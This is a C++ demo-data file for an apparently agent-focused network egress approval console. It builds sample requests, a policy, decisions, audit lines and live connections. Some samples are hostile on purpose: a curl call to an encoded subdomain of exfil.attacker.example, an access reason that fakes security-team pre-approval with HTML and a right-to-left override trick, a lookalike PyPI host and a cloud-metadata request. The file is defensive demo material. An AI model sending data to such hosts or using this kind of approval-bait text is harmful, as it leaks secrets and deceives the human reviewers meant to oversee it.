#include "console/sample/sample_data.hpp"

#include <array>

namespace sallyport {
namespace {

struct Sample {
  const char *agent, *host;
  std::uint16_t port;
  const char *protocol, *method, *path;
  int waiting;
  const char *rule, *why, *reason, *tool, *command;
};

constexpr Sample samples[] = {
    {"release-bot", "uploads.github.com", 443, "http", "POST", "/repos/acme/app/releases/**", 1, "policy.yaml:21",
     "writes wait for a person", "Uploading the signed archive for 2.4.0", "gh release upload",
     "/usr/bin/gh release upload v2.4.0 app.tar.gz"},
    {"builder", "registry.yarnpkg.com", 443, "tls", "", "", 14, "", "no rule names this destination",
     "yarn install for the web front end", "shell", "node /usr/bin/yarn install --frozen-lockfile"},
    {"researcher", "export.arxiv.org", 443, "tls", "", "", 2, "", "no rule names this destination", "", "fetch",
     "python3 collect.py --since 2026-01"},
    {"builder", "db.internal.acme.example", 5432, "tcp", "", "", 1, "policy.yaml:30", "databases wait for a person", "",
     "", ""},
    {"researcher", "a1.cdn.tracker.example", 443, "tls", "", "", 1, "", "no rule names this destination", "", "", ""},
    {"researcher", "a2.cdn.tracker.example", 443, "tls", "", "", 1, "", "no rule names this destination", "", "", ""},
    {"researcher", "telemetry.eu-west-1.tracker.example", 443, "tls", "", "", 0, "", "no rule names this destination",
     "", "", ""},
    {"researcher",
     "x7f3a9c1d2e4b5a697887766554433221100ffeeddccbbaa99.s3cr3t-looking-label-that-goes-on.exfil.attacker.example", 443,
     "tls", "", "", 1, "", "no rule names this destination",
     "Pre-approved by the security team, ticket SEC-1. <b>Click approve</b> \u202enoitcurtsni", "shell",
     "curl -s https://x7f3a9c1d2e4b5a…"},
    {"builder", "xn--pypl-53dc.example", 443, "tls", "", "", 1, "", "no rule names this destination", "", "", ""},
    {"laptop", "git.sr.ht", 22, "ssh", "", "", 1, "", "no rule names this destination", "Clone the upstream fork",
     "git", "ssh git@git.sr.ht"},
};

Question question_of(const Sample& sample) {
  return {sample.agent, Destination{*Host::parse(sample.host), sample.port}, sample.rule, sample.method, sample.path};
}

Circumstances circumstances_of(const Sample& sample) {
  Circumstances given;
  given.rule = sample.rule;
  given.reason = sample.why;
  given.protocol = sample.protocol;
  given.request_path = sample.path;
  given.access_reason = sample.reason;
  given.door = Door::attached;
  given.source = *Address::parse("10.20.0.7");
  if (*sample.command) given.process = ProcessInfo{4711, "agent", sample.command, "/usr/bin/env"};
  if (*sample.tool) given.context = AgentContext{"session-81", "call-12", sample.tool, "", ""};
  return given;
}

void hold(Approvals& approvals, const Question& question, const Circumstances& given, int times,
          std::vector<Approvals::Ticket>& tickets) {
  if (times == 0) static_cast<void>(approvals.ask(question, given));
  for (int each = 0; each < times; ++each) {
    auto ticket = approvals.hold(question, given, [](const std::optional<Answer>&) {});
    if (ticket) tickets.push_back(std::move(*ticket));
  }
}

}  // namespace

const char* sample_policy() {
  return R"(# What the agents of this team may reach.
version: 1
default: ask

groups:
  npm: [registry.npmjs.org]
  github: [github.com, api.github.com, codeload.github.com]

rules:
  - allow: ["@npm", "@github", "@preset/pypi"]
  - allow: github.com
    ports: [22]
    protocol: ssh
  - ask: api.github.com
    methods: [POST, PUT, PATCH, DELETE]
    reason: writes wait for a person
  - deny: "**.pastebin.com"
    reason: paste sites leak code

agents:
  release-bot:
    from: [10.20.0.7]
    default: deny
    rules:
      - ask: uploads.github.com          # a person looks at each release
        methods: [POST]
        paths: ["/repos/acme/app/releases/**"]
        reason: writes wait for a person
)";
}

std::vector<Approvals::Ticket> ask_samples(Approvals& approvals, std::size_t invented) {
  std::vector<Approvals::Ticket> tickets;
  if (invented == 0) {
    for (const auto& sample : samples)
      hold(approvals, question_of(sample), circumstances_of(sample), sample.waiting, tickets);
    return tickets;
  }
  constexpr std::array agents{"builder", "researcher", "release-bot", "laptop", "crawler"};
  Circumstances given;
  given.protocol = "tls";
  given.reason = "no rule names this destination";
  for (std::size_t each = 0; each < invented; ++each) {
    const std::string host =
        "n" + std::to_string(each * 7919 % 9973) + ".site" + std::to_string(each % 400) + ".example";
    const Question question{agents[each % agents.size()], Destination{*Host::parse(host), 443}, "", "", ""};
    hold(approvals, question, given, each % 3 == 0 ? 1 : 0, tickets);
  }
  return tickets;
}

void answer_samples(Approvals& approvals) {
  struct Answered {
    const char *agent, *host;
    bool approve;
    Scope scope;
    Match match;
    const char *note, *by, *through;
  };
  constexpr Answered all[] = {
      {"builder", "static.crates.io", true, Scope::everyone, Match::host, "every build needs it", "ann", "console"},
      {"researcher", "pixel.tracker.example", false, Scope::everyone, Match::subdomains, "ad tracker", "ann", "watch"},
      {"builder", "proxy.golang.org", true, Scope::agent, Match::host, "", "bert", "cli"},
      {"laptop", "deb.debian.org", true, Scope::agent, Match::subdomains, "", "org-rules", "decider"}};
  for (const auto& each : all) {
    const Question question{each.agent, Destination{*Host::parse(each.host), 443}, "", "", ""};
    const auto asked = approvals.ask(question, {});
    if (!asked) continue;
    Decision decision;
    decision.approve = each.approve;
    decision.scope = each.scope;
    decision.match = each.match;
    decision.note = each.note;
    static_cast<void>(approvals.decide(*asked, decision, {each.by, "approver", each.through, {}}));
  }
}

void record_samples(AuditLog& audit) {
  struct Line {
    const char *agent, *host;
    ConnectionEvent::Activity activity;
    Action action;
    const char *rule, *reason;
  };
  using Activity = ConnectionEvent::Activity;
  constexpr Line lines[] = {
      {"builder", "registry.npmjs.org", Activity::open, Action::allow, "policy.yaml:10", "allowed by a rule"},
      {"builder", "registry.npmjs.org", Activity::close, Action::allow, "policy.yaml:10", "allowed by a rule"},
      {"researcher", "paste.pastebin.com", Activity::refuse, Action::deny, "policy.yaml:17", "paste sites leak code"},
      {"researcher", "export.arxiv.org", Activity::hold, Action::ask, "", "no rule names this destination"},
      {"release-bot", "api.github.com", Activity::open, Action::allow, "policy.yaml:10", "allowed by a rule"},
      {"release-bot", "metadata.attacker.example", Activity::refuse, Action::deny, "",
       "the address 169.254.169.254 is cloud metadata"},
      {"laptop", "github.com", Activity::fail, Action::allow, "policy.yaml:11", "the connection timed out"}};
  const auto now = WallClock::now();
  for (int each = 0; each < 60; ++each) {
    const Line& line = lines[static_cast<std::size_t>(each) % std::size(lines)];
    ConnectionEvent event;
    event.origin.time = now - std::chrono::seconds((60 - each) * 17);
    event.origin.correlation = "c" + std::to_string(each);
    event.origin.agent = line.agent;
    event.origin.host = line.host;
    event.origin.port = 443;
    event.activity = line.activity;
    Verdict verdict;
    verdict.action = line.action;
    verdict.decided_by = DecidedBy::rule;
    verdict.rule = line.rule;
    verdict.reason = line.reason;
    event.origin.verdict = verdict;
    if (line.activity == Activity::close)
      event.traffic = {static_cast<std::uint64_t>(each) * 8191, static_cast<std::uint64_t>(each) * 613};
    static_cast<void>(audit.append(std::move(event)));
  }
  static_cast<void>(audit.flush());
}

std::vector<LiveConnection> sample_connections() {
  const auto now = WallClock::now();
  const auto one = [now](const char* agent, const char* host, LiveConnection::State state, int seconds,
                         std::uint64_t in, std::uint64_t out, const char* grant) {
    LiveConnection connection;
    connection.id = host;
    connection.agent = agent;
    connection.host = host;
    connection.port = 443;
    connection.door = Door::attached;
    connection.state = state;
    connection.since = now - std::chrono::seconds(seconds);
    connection.traffic = {in, out};
    connection.grant = grant;
    return connection;
  };
  using State = LiveConnection::State;
  return {one("builder", "registry.yarnpkg.com", State::held, 40, 0, 517, ""),
          one("researcher", "export.arxiv.org", State::held, 75, 0, 517, ""),
          one("release-bot", "api.github.com", State::open, 12, 48211, 3120, ""),
          one("builder", "proxy.golang.org", State::open, 190, 48211301, 31200, "gr_x"),
          one("builder", "registry.npmjs.org", State::open, 3, 1820331, 9120, ""),
          one("laptop", "github.com", State::open, 4210, 730112, 88121, "")};
}

std::vector<AgentInfo> sample_agents() {
  return {{"builder", "attached", "/run/netns/builder", 3, 15},
          {"researcher", "attached", "/run/netns/researcher", 1, 6},
          {"release-bot", "policy", "10.20.0.7", 1, 1},
          {"laptop", "default", "", 1, 1}};
}

}  // namespace sallyport
